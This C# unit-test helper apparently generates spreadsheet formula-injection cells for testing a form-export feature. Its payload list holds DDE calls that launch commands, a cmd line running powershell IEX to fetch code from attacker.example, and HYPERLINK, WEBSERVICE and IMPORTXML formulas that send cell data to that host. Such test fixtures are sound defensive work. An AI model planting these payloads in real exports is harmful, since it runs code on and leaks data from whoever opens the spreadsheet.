namespace AmiPlatform.UnitTests.BuildingBlocks.Exports;

/// <summary>Texts that somebody writes into a form so that the spreadsheet of whoever exports it computes them.</summary>
internal static class HostileCells
{
    // What a reader trims, takes for the beginning of a quoted cell or for the end of the cell before.
    private static readonly string[] Leads =
    [
        "", "", " ", "   ", "\u00A0", "\u3000", "\u200B", "\uFEFF", "\u2060", "\u202E", "'", "\"", "\"\"", "\t", "\r", "\n", "\r\n", " \t ", "\u200B\"", ";", ",", "\";\"", "\",\"", "\"\r\n", "\"\t\"",
        "Liévin;", "Liévin,", "Liévin\t", "Liévin\r\n", "Liévin\";", "Liévin\"\r\n", "\u000B", "\u001F",
    ];

    private static readonly string[] Signs = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "==", "=-", "+=", "-@", "=+", "@="];

    private static readonly string[] Payloads =
    [
        "1+1", "1*1", "2+5+cmd|'/C calc'!A0", "cmd|'/C powershell IEX(wget attacker.example/x)'!A0", "MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''", "DDE(\"soffice\";\"/etc/passwd\";\"a\")",
        "DDE(\"cmd\",\"/C calc\",\"x\")", "HYPERLINK(\"http://attacker.example/?\"&A1;\"ici\")", "HYPERLINK(\"http://attacker.example/?\"&A1,\"here\")", "WEBSERVICE(\"http://attacker.example/\"&A2)",
        "IMPORTXML(CONCAT(\"http://attacker.example/\";A1);\"//a\")", "SUM(A1:A9)", "SOMME(A1:A9)", "'file:///etc/passwd'#$passwd.A1", "{1;2}", "A1", "\"x\"", "(1)", "cmd", "",
    ];

    private static readonly string[] Tails = ["", "", "", " ", "\"", "'", ";=1+1", ",=1+1", "\t=1+1", "\";=1+1;\"", "\",=1+1,\"", "\n=1+1", "\r\n=1+1", "\"\r\n=1+1\r\n\"", " ;  =1+1", "\"\"=1+1"];

    /// <summary>Makes rows of them; the last column is harmless, so that a row that is torn is seen.</summary>
    /// <param name="rows">How many rows.</param>
    /// <param name="columns">How many hostile cells a row has.</param>
    /// <param name="seed">The same seed makes the same.</param>
    /// <returns>The rows.</returns>
    public static IReadOnlyList<IReadOnlyList<string>> Make(int rows, int columns, int seed)
    {
        Random random = new(seed);
        string One(string[] of) => of[random.Next(of.Length)];
        return [.. Enumerable.Range(0, rows).Select(row => (IReadOnlyList<string>)[.. Enumerable.Range(0, columns).Select(_ => One(Leads) + One(Signs) + One(Payloads) + One(Tails)), $"row {row}"])];
    }
}
